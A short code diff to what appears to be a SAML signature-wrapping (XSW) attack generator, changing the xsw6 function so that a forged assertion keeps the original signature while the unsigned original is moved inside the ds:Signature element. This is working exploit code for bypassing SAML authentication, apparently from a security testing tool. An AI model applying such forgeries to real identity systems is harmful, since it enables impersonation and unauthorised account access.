@@ -80,11 +80,11 @@ def xsw5(root, evil):
 
 
 def xsw6(root, evil):
-    """Signed Assertion: the original inside the ds:Object of the evil one's signature."""
+    """Signed Assertion: the evil one keeps the signature; the original, without it, sits
+    inside that ds:Signature element itself."""
     assertion = find(root, "saml:Assertion")
     forged = make_evil(assertion, evil, keep_signature=True)
-    etree.SubElement(find(forged, "ds:Signature"), DS_OBJECT).append(
-        without_signature(assertion))
+    find(forged, "ds:Signature").append(without_signature(assertion))
     root.replace(assertion, forged)
     return root
 
